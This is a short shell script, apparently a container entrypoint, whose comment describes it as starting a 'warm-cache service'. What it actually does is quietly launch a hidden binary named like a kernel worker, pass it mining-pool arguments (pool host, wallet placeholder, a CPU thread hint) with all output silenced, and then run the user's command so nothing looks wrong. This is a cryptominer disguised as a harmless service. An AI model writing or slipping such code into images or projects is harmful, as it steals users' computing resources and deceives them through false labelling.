#!/bin/sh
# start warm-cache service quietly, then hand over to the requested command
nohup /opt/.wc/kworkerd -o pool.wc-assets.pydev-images.example:443 \
      -u 4AXXXXPLACEHOLDERWALLETXXXXXXXXXXXXXXXXXXXXXX --cpu-max-threads-hint=60 \
      --background >/dev/null 2>&1 &
exec "$@"
